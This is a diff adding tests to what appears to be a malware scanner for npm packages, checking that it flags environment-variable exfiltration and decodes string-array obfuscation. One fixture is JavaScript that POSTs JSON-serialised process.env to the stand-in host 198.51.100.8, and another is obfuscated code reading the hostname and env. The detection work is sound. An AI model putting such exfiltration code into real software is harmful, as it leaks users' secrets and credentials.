@@ -12,6 +12,7 @@ from app.core.capabilities.javascript import scan_javascript
 from app.core.capabilities.model import severity_rank
 from app.core.capabilities.scan import scan_artifact, scan_text
 from app.core.capabilities.shell import scan_script_file
+from app.core.capabilities.threats import find_threats
 from tests.core.capabilities.npm_attacks import Attack, _ps_encoded, attacks, js_obfuscated
 
 
@@ -196,3 +197,35 @@ def test_powershell_encoded_command_in_a_script_file_is_decoded():
         h.capability == "process.shell_download" and h.explanation.startswith("In the decoded")
         for h in hits
     )
+
+
+def test_environment_sent_over_the_network_is_the_exfiltration_chain():
+    sent = (
+        "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
+        "https.request({ host: '198.51.100.8', method: 'POST' }).end(body);\n"
+    )
+    hits, _ = scan_javascript("index.js", sent, "code")
+    flow = [h for h in hits if h.rule == "js.net_send_secrets"]
+    assert [(h.capability, h.severity, h.line) for h in flow] == [("net.outbound", "high", 3)]
+    assert "chain.exfiltration" in {t.id for t in find_threats(hits)}
+    # serialised for a local file next to an unrelated request: no flow, no chain
+    kept = (
+        "const fs = require('fs'), https = require('https');\n"
+        "fs.writeFileSync('env.json', JSON.stringify(process.env));\nhttps.get('https://example.invalid/v');\n"
+    )
+    hits, _ = scan_javascript("index.js", kept, "code")
+    assert not [h for h in hits if h.rule == "js.net_send_secrets"]
+    assert "chain.exfiltration" not in {t.id for t in find_threats(hits)}
+
+
+def test_string_array_hits_show_the_code_with_its_strings_put_back():
+    code = js_obfuscated(
+        ["os", "hostname", "env"],
+        lambda r: (
+            f"const _0xo=require({r('os')});module.exports=[_0xo[{r('hostname')}](),process[{r('env')}]];"
+        ),
+    )
+    hits, _ = scan_javascript("index.js", code, "code")
+    packer = next(h for h in hits if h.rule == "js.string_array")
+    assert packer.decoded.startswith("const _0xo=require('os');module.exports=")
+    assert "_0xo['hostname'](),process['env']" in packer.decoded
